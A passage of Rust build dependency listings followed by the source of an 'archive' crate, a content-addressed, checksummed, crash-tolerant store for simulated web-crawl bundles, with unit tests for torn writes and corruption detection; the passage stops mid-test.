