/root/repo/target/debug/deps/determinism-65ff41107f23fe23.d: crates/core/../../tests/determinism.rs Cargo.toml

/root/repo/target/debug/deps/libdeterminism-65ff41107f23fe23.rmeta: crates/core/../../tests/determinism.rs Cargo.toml

crates/core/../../tests/determinism.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
