/root/repo/target/debug/deps/figure02-68a9e8704ed0e673.d: crates/bench/src/bin/figure02.rs Cargo.toml

/root/repo/target/debug/deps/libfigure02-68a9e8704ed0e673.rmeta: crates/bench/src/bin/figure02.rs Cargo.toml

crates/bench/src/bin/figure02.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
