/root/repo/target/debug/deps/dom-4383eb9aee24fe69.d: crates/browser/tests/dom.rs Cargo.toml

/root/repo/target/debug/deps/libdom-4383eb9aee24fe69.rmeta: crates/browser/tests/dom.rs Cargo.toml

crates/browser/tests/dom.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
