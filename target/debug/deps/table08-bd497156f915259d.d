/root/repo/target/debug/deps/table08-bd497156f915259d.d: crates/bench/src/bin/table08.rs Cargo.toml

/root/repo/target/debug/deps/libtable08-bd497156f915259d.rmeta: crates/bench/src/bin/table08.rs Cargo.toml

crates/bench/src/bin/table08.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
