/root/repo/target/debug/deps/paper_listings-7871c5072e246556.d: crates/core/../../tests/paper_listings.rs

/root/repo/target/debug/deps/paper_listings-7871c5072e246556: crates/core/../../tests/paper_listings.rs

crates/core/../../tests/paper_listings.rs:
