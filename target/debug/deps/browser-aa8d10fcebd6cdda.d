/root/repo/target/debug/deps/browser-aa8d10fcebd6cdda.d: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

/root/repo/target/debug/deps/browser-aa8d10fcebd6cdda: crates/browser/src/lib.rs crates/browser/src/csp.rs crates/browser/src/hostobjects.rs crates/browser/src/page.rs crates/browser/src/profile.rs crates/browser/src/template.rs crates/browser/src/webgl.rs

crates/browser/src/lib.rs:
crates/browser/src/csp.rs:
crates/browser/src/hostobjects.rs:
crates/browser/src/page.rs:
crates/browser/src/profile.rs:
crates/browser/src/template.rs:
crates/browser/src/webgl.rs:
