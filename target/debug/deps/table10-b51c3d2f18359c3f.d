/root/repo/target/debug/deps/table10-b51c3d2f18359c3f.d: crates/bench/src/bin/table10.rs Cargo.toml

/root/repo/target/debug/deps/libtable10-b51c3d2f18359c3f.rmeta: crates/bench/src/bin/table10.rs Cargo.toml

crates/bench/src/bin/table10.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
