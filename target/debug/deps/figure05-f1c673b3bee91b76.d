/root/repo/target/debug/deps/figure05-f1c673b3bee91b76.d: crates/bench/src/bin/figure05.rs Cargo.toml

/root/repo/target/debug/deps/libfigure05-f1c673b3bee91b76.rmeta: crates/bench/src/bin/figure05.rs Cargo.toml

crates/bench/src/bin/figure05.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
