/root/repo/target/debug/deps/dom-c1488c1e21792e2e.d: crates/browser/tests/dom.rs

/root/repo/target/debug/deps/dom-c1488c1e21792e2e: crates/browser/tests/dom.rs

crates/browser/tests/dom.rs:
