/root/repo/target/debug/deps/properties-25a34623f9eb4b70.d: crates/stats/tests/properties.rs

/root/repo/target/debug/deps/properties-25a34623f9eb4b70: crates/stats/tests/properties.rs

crates/stats/tests/properties.rs:
