/root/repo/target/debug/deps/bench-9fb89548226a385a.d: crates/bench/src/lib.rs Cargo.toml

/root/repo/target/debug/deps/libbench-9fb89548226a385a.rmeta: crates/bench/src/lib.rs Cargo.toml

crates/bench/src/lib.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
