/root/repo/target/debug/deps/table09-af884ab758ac68b2.d: crates/bench/src/bin/table09.rs

/root/repo/target/debug/deps/table09-af884ab758ac68b2: crates/bench/src/bin/table09.rs

crates/bench/src/bin/table09.rs:
