/root/repo/target/debug/deps/table04-cc0e98e7c40c3980.d: crates/bench/src/bin/table04.rs

/root/repo/target/debug/deps/table04-cc0e98e7c40c3980: crates/bench/src/bin/table04.rs

crates/bench/src/bin/table04.rs:
