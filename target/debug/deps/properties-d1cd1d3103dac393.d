/root/repo/target/debug/deps/properties-d1cd1d3103dac393.d: crates/jsengine/tests/properties.rs

/root/repo/target/debug/deps/properties-d1cd1d3103dac393: crates/jsengine/tests/properties.rs

crates/jsengine/tests/properties.rs:
