/root/repo/target/debug/deps/figure05-b839d3c52e6235cb.d: crates/bench/src/bin/figure05.rs

/root/repo/target/debug/deps/figure05-b839d3c52e6235cb: crates/bench/src/bin/figure05.rs

crates/bench/src/bin/figure05.rs:
