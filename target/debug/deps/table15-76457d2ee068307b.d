/root/repo/target/debug/deps/table15-76457d2ee068307b.d: crates/bench/src/bin/table15.rs Cargo.toml

/root/repo/target/debug/deps/libtable15-76457d2ee068307b.rmeta: crates/bench/src/bin/table15.rs Cargo.toml

crates/bench/src/bin/table15.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
