/root/repo/target/debug/examples/wild_scan-41700c6cc0fbd9ad.d: crates/core/../../examples/wild_scan.rs Cargo.toml

/root/repo/target/debug/examples/libwild_scan-41700c6cc0fbd9ad.rmeta: crates/core/../../examples/wild_scan.rs Cargo.toml

crates/core/../../examples/wild_scan.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
