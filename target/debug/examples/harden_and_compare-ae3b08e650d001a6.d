/root/repo/target/debug/examples/harden_and_compare-ae3b08e650d001a6.d: crates/core/../../examples/harden_and_compare.rs

/root/repo/target/debug/examples/harden_and_compare-ae3b08e650d001a6: crates/core/../../examples/harden_and_compare.rs

crates/core/../../examples/harden_and_compare.rs:
