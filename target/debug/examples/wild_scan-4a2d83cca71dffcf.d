/root/repo/target/debug/examples/wild_scan-4a2d83cca71dffcf.d: crates/core/../../examples/wild_scan.rs

/root/repo/target/debug/examples/wild_scan-4a2d83cca71dffcf: crates/core/../../examples/wild_scan.rs

crates/core/../../examples/wild_scan.rs:
