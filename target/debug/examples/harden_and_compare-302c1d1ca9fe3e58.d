/root/repo/target/debug/examples/harden_and_compare-302c1d1ca9fe3e58.d: crates/core/../../examples/harden_and_compare.rs Cargo.toml

/root/repo/target/debug/examples/libharden_and_compare-302c1d1ca9fe3e58.rmeta: crates/core/../../examples/harden_and_compare.rs Cargo.toml

crates/core/../../examples/harden_and_compare.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
