/root/repo/target/debug/examples/fingerprint_surface-5f7dfbb1c155f2eb.d: crates/core/../../examples/fingerprint_surface.rs

/root/repo/target/debug/examples/fingerprint_surface-5f7dfbb1c155f2eb: crates/core/../../examples/fingerprint_surface.rs

crates/core/../../examples/fingerprint_surface.rs:
