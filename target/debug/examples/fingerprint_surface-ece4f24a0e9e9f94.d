/root/repo/target/debug/examples/fingerprint_surface-ece4f24a0e9e9f94.d: crates/core/../../examples/fingerprint_surface.rs Cargo.toml

/root/repo/target/debug/examples/libfingerprint_surface-ece4f24a0e9e9f94.rmeta: crates/core/../../examples/fingerprint_surface.rs Cargo.toml

crates/core/../../examples/fingerprint_surface.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
