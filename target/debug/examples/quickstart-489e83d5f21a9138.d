/root/repo/target/debug/examples/quickstart-489e83d5f21a9138.d: crates/core/../../examples/quickstart.rs Cargo.toml

/root/repo/target/debug/examples/libquickstart-489e83d5f21a9138.rmeta: crates/core/../../examples/quickstart.rs Cargo.toml

crates/core/../../examples/quickstart.rs:
Cargo.toml:

# env-dep:CLIPPY_ARGS=
# env-dep:CLIPPY_CONF_DIR
