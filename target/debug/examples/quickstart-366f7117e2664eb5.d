/root/repo/target/debug/examples/quickstart-366f7117e2664eb5.d: crates/core/../../examples/quickstart.rs

/root/repo/target/debug/examples/quickstart-366f7117e2664eb5: crates/core/../../examples/quickstart.rs

crates/core/../../examples/quickstart.rs:
