//! # archive — content-addressed crawl bundle store
//!
//! A *bundle* pins one crawl to disk so it can be re-measured later
//! (Hantke et al.'s *Web Execution Bundles* applied to the simulated
//! crawl): everything a visit served is archived once, keyed by content,
//! and a replayed run re-executes the measurement pipeline from the
//! archive instead of regenerating the web.
//!
//! This crate is the storage layer only — it knows nothing about scans.
//! A bundle is a directory with two append-only files:
//!
//! * `manifest.gar` — one checksummed text line per record: a versioned
//!   header carrying an opaque config payload, one entry per archived
//!   item, and a final commit line. Every line ends with its own FNV-64
//!   checksum, so a torn final write (crawl killed mid-line) is detected
//!   and dropped rather than half-parsed.
//! * `blobs.gar` — the content-addressed store: each body is written at
//!   most once under its FNV-1a 64-bit hash (the same script-identity
//!   hash the corpus statistics use), length-prefixed and self-verifying.
//!
//! Both files are append-only and flushed per record, so a killed crawl
//! leaves a readable prefix; [`BundleReader::open`] reports dropped tails
//! instead of failing. Higher layers decide what payloads mean and
//! whether an uncommitted bundle is usable.
//!
//! All bookkeeping lands under `archive.*` metrics, which are excluded
//! from the telemetry digest (like `cache.*`): recording a crawl must not
//! perturb its provenance.

use std::collections::{HashMap, HashSet};
use std::fs::{File, OpenOptions};
use std::io::{self, BufWriter, Read, Seek, SeekFrom, Write};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// Bundle on-disk format version. Bump on any incompatible change to the
/// manifest or blob framing; readers refuse other versions with a clear
/// error instead of mis-parsing.
pub const BUNDLE_FORMAT_VERSION: u32 = 1;

const MANIFEST_FILE: &str = "manifest.gar";
const BLOBS_FILE: &str = "blobs.gar";
const MANIFEST_MAGIC: &str = "gullible-bundle";
const BLOBS_MAGIC: &str = "gullible-blobs";

/// Separator between a manifest line's body and its checksum (cannot occur
/// in payloads — [`BundleWriter::append_entry`] rejects it).
const US: char = '\x1f';

/// FNV-1a 64-bit — the workspace's standard content hash.
pub fn fnv1a(bytes: &[u8]) -> u64 {
    let mut h = 0xCBF2_9CE4_8422_2325u64;
    for b in bytes {
        h ^= *b as u64;
        h = h.wrapping_mul(0x100_0000_01B3);
    }
    h
}

fn frame(body: &str) -> String {
    format!("{body}{US}{:016x}", fnv1a(body.as_bytes()))
}

fn unframe(line: &str) -> Option<&str> {
    let (body, sum) = line.rsplit_once(US)?;
    (u64::from_str_radix(sum, 16).ok()? == fnv1a(body.as_bytes())).then_some(body)
}

fn invalid(msg: String) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, msg)
}

/// Counters accumulated while writing one bundle.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct WriteStats {
    /// Manifest entries appended.
    pub entries: u64,
    /// Unique blobs written to the store.
    pub blobs_written: u64,
    /// Bytes of unique blob content written.
    pub blob_bytes: u64,
    /// Blob puts answered by the store without writing (content already
    /// archived) — the dedup count the corpus statistics predict.
    pub dedup_hits: u64,
}

struct BlobWriter {
    file: BufWriter<File>,
    seen: HashSet<u64>,
    written: u64,
    bytes: u64,
    dedup: u64,
}

struct ManifestWriter {
    file: BufWriter<File>,
    /// Byte length of the manifest after the last flushed line — the
    /// high-water mark the crash-consistent checkpoint records.
    len: u64,
}

/// Writes one bundle: create, then [`put_blob`](BundleWriter::put_blob) /
/// [`append_entry`](BundleWriter::append_entry) from any thread, then
/// [`commit`](BundleWriter::commit). Every record is flushed as it is
/// appended, so a killed run leaves a readable (uncommitted) prefix.
pub struct BundleWriter {
    dir: PathBuf,
    manifest: Mutex<ManifestWriter>,
    blobs: Mutex<BlobWriter>,
    entries: AtomicU64,
}

impl BundleWriter {
    /// Create (or overwrite) the bundle at `dir` with an opaque config
    /// payload in the header. The payload must not contain `\n` or the
    /// checksum separator.
    pub fn create(dir: impl Into<PathBuf>, config: &str) -> io::Result<BundleWriter> {
        let dir = dir.into();
        check_payload(config)?;
        std::fs::create_dir_all(&dir)?;
        let mut manifest = BufWriter::new(File::create(dir.join(MANIFEST_FILE))?);
        let header = frame(&format!("{MANIFEST_MAGIC} v{BUNDLE_FORMAT_VERSION}{US}{config}"));
        writeln!(manifest, "{header}")?;
        manifest.flush()?;
        let mut blobs = BufWriter::new(File::create(dir.join(BLOBS_FILE))?);
        writeln!(blobs, "{BLOBS_MAGIC} v{BUNDLE_FORMAT_VERSION}")?;
        blobs.flush()?;
        Ok(BundleWriter {
            dir,
            manifest: Mutex::new(ManifestWriter {
                file: manifest,
                len: header.len() as u64 + 1,
            }),
            blobs: Mutex::new(BlobWriter {
                file: blobs,
                seen: HashSet::new(),
                written: 0,
                bytes: 0,
                dedup: 0,
            }),
            entries: AtomicU64::new(0),
        })
    }

    /// Reopen an existing (uncommitted) bundle for appending — the
    /// crash-resume path. The manifest is truncated to `truncate_to` bytes
    /// first, dropping any torn tail *and* any flushed-but-unacknowledged
    /// entries beyond the caller's trusted high-water mark; the blob store
    /// is truncated to its last verifiable record and its content hashes
    /// are re-seeded so dedup keeps working across the restart. Fails if
    /// the header is damaged, the recorded config differs from
    /// `expected_config` (resuming under a different configuration would
    /// silently mix experiments), or `truncate_to` does not land on a line
    /// boundary within the file.
    ///
    /// The returned writer's entry count continues from the surviving
    /// prefix; blob write/dedup counters restart at zero (they describe
    /// this process's work).
    pub fn append_to(
        dir: impl Into<PathBuf>,
        expected_config: &str,
        truncate_to: u64,
    ) -> io::Result<BundleWriter> {
        let dir = dir.into();
        let manifest_path = dir.join(MANIFEST_FILE);
        let text = std::fs::read_to_string(&manifest_path).map_err(|e| {
            io::Error::new(e.kind(), format!("{}: {e}", manifest_path.display()))
        })?;
        let mut lines = text.lines();
        let header = lines.next().and_then(unframe).ok_or_else(|| {
            invalid(format!("{}: missing or corrupt bundle header", dir.display()))
        })?;
        let (magic, config) = header.split_once(US).unwrap_or((header, ""));
        if !magic.starts_with(MANIFEST_MAGIC) {
            return Err(invalid(format!("{}: not a bundle manifest", dir.display())));
        }
        if config != expected_config {
            return Err(invalid(format!(
                "{}: bundle was recorded under a different configuration — \
                 refusing to resume into it",
                dir.display()
            )));
        }
        let header_len = text.lines().next().map(|l| l.len() as u64 + 1).unwrap_or(0);
        if truncate_to < header_len || truncate_to > text.len() as u64 {
            return Err(invalid(format!(
                "{}: high-water mark {truncate_to} outside manifest (len {})",
                dir.display(),
                text.len()
            )));
        }
        if text.as_bytes()[..truncate_to as usize].last() != Some(&b'\n') {
            return Err(invalid(format!(
                "{}: high-water mark {truncate_to} is not a line boundary",
                dir.display()
            )));
        }
        // Validate and count the surviving entries; the trusted prefix
        // must be wholly intact (its lines were checksummed and the HWM
        // says they were all flushed).
        let mut kept_entries = 0u64;
        for line in text[header_len as usize..truncate_to as usize].lines() {
            match unframe(line).and_then(|body| body.split_once(US)) {
                Some(("s", _)) => kept_entries += 1,
                _ => {
                    return Err(invalid(format!(
                        "{}: corrupt entry inside trusted prefix (before byte {truncate_to})",
                        dir.display()
                    )))
                }
            }
        }
        let mut manifest = OpenOptions::new().read(true).write(true).open(&manifest_path)?;
        manifest.set_len(truncate_to)?;
        manifest.seek(SeekFrom::End(0))?;

        // Truncate the blob store to its verified prefix and re-seed the
        // dedup set from it.
        let blobs_path = dir.join(BLOBS_FILE);
        let (blobs, torn, valid_end) = read_blob_records(&blobs_path)?;
        let mut blob_file = OpenOptions::new().read(true).write(true).open(&blobs_path)?;
        if torn {
            blob_file.set_len(valid_end)?;
        }
        blob_file.seek(SeekFrom::End(0))?;

        Ok(BundleWriter {
            dir,
            manifest: Mutex::new(ManifestWriter {
                file: BufWriter::new(manifest),
                len: truncate_to,
            }),
            blobs: Mutex::new(BlobWriter {
                file: BufWriter::new(blob_file),
                seen: blobs.keys().copied().collect(),
                written: 0,
                bytes: 0,
                dedup: 0,
            }),
            entries: AtomicU64::new(kept_entries),
        })
    }

    /// Directory this bundle is being written to.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// Archive `body` under its FNV-64 content hash, writing it only if
    /// the store has not seen that content yet. Returns the hash.
    pub fn put_blob(&self, body: &str) -> io::Result<u64> {
        let hash = fnv1a(body.as_bytes());
        if obs::prof::recorder_armed() {
            obs::prof::ring_record("blob", format!("{hash:016x} len={}", body.len()));
        }
        let mut w = self.blobs.lock().unwrap();
        if !w.seen.insert(hash) {
            w.dedup += 1;
            obs::add("archive.dedup.hits", 1);
            return Ok(hash);
        }
        writeln!(w.file, "b {hash:016x} {}", body.len())?;
        w.file.write_all(body.as_bytes())?;
        w.file.write_all(b"\n")?;
        w.file.flush()?;
        w.written += 1;
        w.bytes += body.len() as u64;
        obs::add("archive.write.blobs", 1);
        obs::add("archive.write.blob_bytes", body.len() as u64);
        Ok(hash)
    }

    /// Append one opaque entry line (checksummed) to the manifest and
    /// flush it. Entries from worker threads land in completion order;
    /// readers must not rely on file order. Returns the manifest's byte
    /// length after the flush — the high-water mark a crash-consistent
    /// checkpoint can record to mark this entry (and everything before
    /// it) as durably on disk.
    pub fn append_entry(&self, payload: &str) -> io::Result<u64> {
        check_payload(payload)?;
        if obs::prof::recorder_armed() {
            obs::prof::ring_record("entry", format!("len={}", payload.len()));
        }
        let line = frame(&format!("s{US}{payload}"));
        let mut m = self.manifest.lock().unwrap();
        writeln!(m.file, "{line}")?;
        m.file.flush()?;
        m.len += line.len() as u64 + 1;
        let hwm = m.len;
        drop(m);
        self.entries.fetch_add(1, Ordering::Relaxed);
        obs::add("archive.write.entries", 1);
        Ok(hwm)
    }

    /// Manifest byte length after the last flushed line.
    pub fn manifest_len(&self) -> u64 {
        self.manifest.lock().unwrap().len
    }

    /// Crash-test hook: write the first `keep_bytes` bytes of what
    /// [`BundleWriter::append_entry`] would have written for `payload`
    /// (no trailing newline) and flush — the on-disk state of a process
    /// killed at byte `keep_bytes` of an entry append. The internal
    /// high-water mark is *not* advanced, mirroring a real crash: the
    /// dying process never acknowledged the write.
    pub fn append_entry_torn(&self, payload: &str, keep_bytes: usize) -> io::Result<()> {
        check_payload(payload)?;
        if obs::prof::recorder_armed() {
            obs::prof::ring_record("entry_torn", format!("keep={keep_bytes}"));
        }
        let line = frame(&format!("s{US}{payload}"));
        let keep = keep_bytes.min(line.len());
        let mut m = self.manifest.lock().unwrap();
        m.file.write_all(&line.as_bytes()[..keep])?;
        m.file.flush()?;
        Ok(())
    }

    /// Seal the bundle with a commit payload (run summary, digests). A
    /// reader treats a bundle without a commit line as torn.
    pub fn commit(self, payload: &str) -> io::Result<WriteStats> {
        check_payload(payload)?;
        let mut m = self.manifest.into_inner().unwrap();
        writeln!(m.file, "{}", frame(&format!("c{US}{payload}")))?;
        m.file.flush()?;
        m.file.get_ref().sync_all()?;
        let b = self.blobs.into_inner().unwrap();
        let mut file = b.file;
        file.flush()?;
        file.get_ref().sync_all()?;
        Ok(WriteStats {
            entries: self.entries.load(Ordering::Relaxed),
            blobs_written: b.written,
            blob_bytes: b.bytes,
            dedup_hits: b.dedup,
        })
    }
}

fn check_payload(payload: &str) -> io::Result<()> {
    if payload.contains('\n') || payload.contains(US) {
        return Err(invalid(
            "bundle payload must not contain newlines or \\x1f".to_string(),
        ));
    }
    Ok(())
}

/// A bundle read back from disk. Payload semantics belong to the caller;
/// this layer only validates framing, versions and checksums.
#[derive(Debug)]
pub struct BundleReader {
    /// Opaque config payload from the header line.
    pub config: String,
    /// Entry payloads, in file (completion) order.
    pub entries: Vec<String>,
    /// Byte offset of the end of each entry's line (inclusive of its
    /// newline), parallel to `entries` — lets a resume compare entries
    /// against a checkpointed manifest high-water mark.
    pub entry_ends: Vec<u64>,
    /// Total manifest byte length as read.
    pub manifest_len: u64,
    /// Commit payload; `None` for a torn (uncommitted) bundle.
    pub commit: Option<String>,
    /// Content-addressed blob store: FNV-64 hash → body.
    pub blobs: HashMap<u64, Arc<str>>,
    /// Manifest lines dropped (torn or corrupt) — non-zero means the
    /// recording crawl was killed or the file was damaged.
    pub dropped_lines: usize,
    /// The blob file ended mid-record; everything before the tear was
    /// recovered.
    pub torn_blob_tail: bool,
}

impl BundleReader {
    /// Open and validate the bundle at `dir`. Fails with a clear error on
    /// a missing file or a format-version mismatch; torn tails are
    /// recovered and *counted*, not errors.
    pub fn open(dir: impl AsRef<Path>) -> io::Result<BundleReader> {
        let dir = dir.as_ref();
        let manifest = std::fs::read_to_string(dir.join(MANIFEST_FILE)).map_err(|e| {
            io::Error::new(e.kind(), format!("{}: {e}", dir.join(MANIFEST_FILE).display()))
        })?;
        let mut lines = manifest.lines();
        let header = lines
            .next()
            .and_then(unframe)
            .ok_or_else(|| invalid(format!("{}: missing or corrupt bundle header", dir.display())))?;
        let (magic, config) = header.split_once(US).unwrap_or((header, ""));
        let version = magic
            .strip_prefix(MANIFEST_MAGIC)
            .map(str::trim)
            .and_then(|v| v.strip_prefix('v'))
            .and_then(|v| v.parse::<u32>().ok())
            .ok_or_else(|| invalid(format!("{}: not a bundle manifest", dir.display())))?;
        if version != BUNDLE_FORMAT_VERSION {
            return Err(invalid(format!(
                "{}: bundle format v{version}, this build reads v{BUNDLE_FORMAT_VERSION} — \
                 re-record the bundle with this build",
                dir.display()
            )));
        }
        let mut entries = Vec::new();
        let mut entry_ends = Vec::new();
        let mut commit = None;
        let mut dropped = 0usize;
        // Track each line's end offset by hand; only lines written whole
        // (with their trailing newline) can validate, so `+ 1` is exact
        // for every line that lands in `entry_ends`.
        let mut pos = manifest.lines().next().map(|l| l.len() as u64 + 1).unwrap_or(0);
        for line in lines {
            let end = pos + line.len() as u64 + 1;
            match unframe(line).and_then(|body| body.split_once(US)) {
                Some(("s", payload)) => {
                    entries.push(payload.to_string());
                    entry_ends.push(end);
                }
                Some(("c", payload)) => commit = Some(payload.to_string()),
                _ => {
                    dropped += 1;
                    obs::add("archive.read.dropped_lines", 1);
                }
            }
            pos = end;
        }
        obs::add("archive.read.entries", entries.len() as u64);

        let (blobs, torn_blob_tail, _) = read_blob_records(&dir.join(BLOBS_FILE))?;
        obs::add("archive.read.blobs", blobs.len() as u64);
        Ok(BundleReader {
            config: config.to_string(),
            entries,
            entry_ends,
            manifest_len: manifest.len() as u64,
            commit,
            blobs,
            dropped_lines: dropped,
            torn_blob_tail,
        })
    }

    /// Body for a content hash, if archived.
    pub fn blob(&self, hash: u64) -> Option<Arc<str>> {
        self.blobs.get(&hash).cloned()
    }
}

/// Parse the blob store: `(blobs, torn_tail, valid_end)` where
/// `valid_end` is the byte offset just past the last verified record —
/// the truncation point a crash resume uses.
fn read_blob_records(path: &Path) -> io::Result<(HashMap<u64, Arc<str>>, bool, u64)> {
    let mut bytes = Vec::new();
    File::open(path)
        .map_err(|e| io::Error::new(e.kind(), format!("{}: {e}", path.display())))?
        .read_to_end(&mut bytes)?;
    let header_end = bytes
        .iter()
        .position(|b| *b == b'\n')
        .ok_or_else(|| invalid(format!("{}: missing blob-store header", path.display())))?;
    let header = std::str::from_utf8(&bytes[..header_end])
        .map_err(|_| invalid(format!("{}: corrupt blob-store header", path.display())))?;
    let version = header
        .strip_prefix(BLOBS_MAGIC)
        .map(str::trim)
        .and_then(|v| v.strip_prefix('v'))
        .and_then(|v| v.parse::<u32>().ok())
        .ok_or_else(|| invalid(format!("{}: not a blob store", path.display())))?;
    if version != BUNDLE_FORMAT_VERSION {
        return Err(invalid(format!(
            "{}: blob-store format v{version}, this build reads v{BUNDLE_FORMAT_VERSION}",
            path.display()
        )));
    }
    let mut blobs = HashMap::new();
    let mut pos = header_end + 1;
    let mut torn = false;
    while pos < bytes.len() {
        // `b <hash16> <len>\n<len bytes>\n` — anything that fails to frame
        // or verify is a torn tail: stop there (later records, if any,
        // were never synced in a consistent state).
        let Some(rel) = bytes[pos..].iter().position(|b| *b == b'\n') else {
            torn = true;
            break;
        };
        let parsed = std::str::from_utf8(&bytes[pos..pos + rel]).ok().and_then(|line| {
            let rest = line.strip_prefix("b ")?;
            let (hash, len) = rest.split_once(' ')?;
            Some((u64::from_str_radix(hash, 16).ok()?, len.parse::<usize>().ok()?))
        });
        let Some((hash, len)) = parsed else {
            torn = true;
            break;
        };
        let body_start = pos + rel + 1;
        let body_end = body_start + len;
        if body_end + 1 > bytes.len() || bytes[body_end] != b'\n' {
            torn = true;
            break;
        }
        let Ok(body) = std::str::from_utf8(&bytes[body_start..body_end]) else {
            torn = true;
            break;
        };
        if fnv1a(body.as_bytes()) != hash {
            torn = true;
            break;
        }
        blobs.insert(hash, Arc::<str>::from(body));
        pos = body_end + 1;
    }
    if torn {
        obs::add("archive.read.torn_blob_tail", 1);
    }
    Ok((blobs, torn, pos as u64))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::AtomicUsize;

    fn tmpdir(tag: &str) -> PathBuf {
        static N: AtomicUsize = AtomicUsize::new(0);
        let dir = std::env::temp_dir().join(format!(
            "gullible-archive-{}-{}-{tag}",
            std::process::id(),
            N.fetch_add(1, Ordering::Relaxed)
        ));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    fn sample_bundle(dir: &Path) -> WriteStats {
        let w = BundleWriter::create(dir, "sites=3").unwrap();
        let h1 = w.put_blob("var a = 1;").unwrap();
        let h2 = w.put_blob("var b = 2;").unwrap();
        let dup = w.put_blob("var a = 1;").unwrap();
        assert_eq!(h1, dup);
        assert_ne!(h1, h2);
        w.append_entry(&format!("site0 {h1:016x}")).unwrap();
        w.append_entry(&format!("site1 {h2:016x}")).unwrap();
        w.append_entry("site2").unwrap();
        w.commit("done=3").unwrap()
    }

    #[test]
    fn roundtrip_entries_blobs_and_commit() {
        let dir = tmpdir("roundtrip");
        let stats = sample_bundle(&dir);
        assert_eq!(stats.entries, 3);
        assert_eq!(stats.blobs_written, 2);
        assert_eq!(stats.dedup_hits, 1);
        assert_eq!(stats.blob_bytes, 20);

        let r = BundleReader::open(&dir).unwrap();
        assert_eq!(r.config, "sites=3");
        assert_eq!(r.entries.len(), 3);
        assert!(r.entries[0].starts_with("site0"));
        assert_eq!(r.commit.as_deref(), Some("done=3"));
        assert_eq!(r.blobs.len(), 2);
        assert_eq!(r.blob(fnv1a(b"var a = 1;")).as_deref(), Some("var a = 1;"));
        assert_eq!(r.dropped_lines, 0);
        assert!(!r.torn_blob_tail);
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn torn_manifest_tail_is_dropped_and_counted() {
        let dir = tmpdir("torn-manifest");
        sample_bundle(&dir);
        let path = dir.join(MANIFEST_FILE);
        let contents = std::fs::read_to_string(&path).unwrap();
        // Kill the run mid-write: drop the commit line and half of the
        // last entry line.
        let lines: Vec<&str> = contents.lines().collect();
        let torn_last = &lines[3][..lines[3].len() / 2];
        let torn = format!("{}\n{}\n{}\n{torn_last}", lines[0], lines[1], lines[2]);
        std::fs::write(&path, torn).unwrap();

        let r = BundleReader::open(&dir).unwrap();
        assert_eq!(r.entries.len(), 2, "intact entries survive");
        assert_eq!(r.commit, None, "torn bundle has no commit");
        assert_eq!(r.dropped_lines, 1);
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn torn_blob_tail_keeps_verified_prefix() {
        let dir = tmpdir("torn-blobs");
        sample_bundle(&dir);
        let path = dir.join(BLOBS_FILE);
        let bytes = std::fs::read(&path).unwrap();
        // Tear mid-way through the last blob's body.
        std::fs::write(&path, &bytes[..bytes.len() - 4]).unwrap();

        let r = BundleReader::open(&dir).unwrap();
        assert!(r.torn_blob_tail);
        assert_eq!(r.blobs.len(), 1, "first blob still verifies");
        assert!(r.blob(fnv1a(b"var a = 1;")).is_some());
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn corrupted_blob_body_fails_verification() {
        let dir = tmpdir("bitflip");
        sample_bundle(&dir);
        let path = dir.join(BLOBS_FILE);
        let mut bytes = std::fs::read(&path).unwrap();
        // Flip a byte inside the first blob body (after its header line).
        let first_body = bytes.iter().position(|b| *b == b'\n').unwrap() + 1;
        let second_line = first_body
            + bytes[first_body..].iter().position(|b| *b == b'\n').unwrap()
            + 1;
        bytes[second_line + 2] ^= 0x20;
        std::fs::write(&path, &bytes).unwrap();

        let r = BundleReader::open(&dir).unwrap();
        // The flipped blob and everything after it are dropped.
        assert!(r.torn_blob_tail);
        assert_eq!(r.blobs.len(), 0);
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn version_mismatch_is_a_clear_error() {
        let dir = tmpdir("version");
        sample_bundle(&dir);
        let path = dir.join(MANIFEST_FILE);
        let contents = std::fs::read_to_string(&path).unwrap();
        let mut lines: Vec<String> = contents.lines().map(String::from).collect();
        let body = format!("{MANIFEST_MAGIC} v99{US}sites=3");
        lines[0] = frame(&body);
        std::fs::write(&path, lines.join("\n")).unwrap();

        let err = BundleReader::open(&dir).unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::InvalidData);
        let msg = err.to_string();
        assert!(msg.contains("v99") && msg.contains("v1"), "{msg}");
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn tampered_header_checksum_is_rejected() {
        let dir = tmpdir("tamper");
        sample_bundle(&dir);
        let path = dir.join(MANIFEST_FILE);
        let mut contents = std::fs::read_to_string(&path).unwrap();
        // Tamper with the config without re-checksumming.
        contents = contents.replacen("sites=3", "sites=4", 1);
        std::fs::write(&path, contents).unwrap();
        let err = BundleReader::open(&dir).unwrap_err();
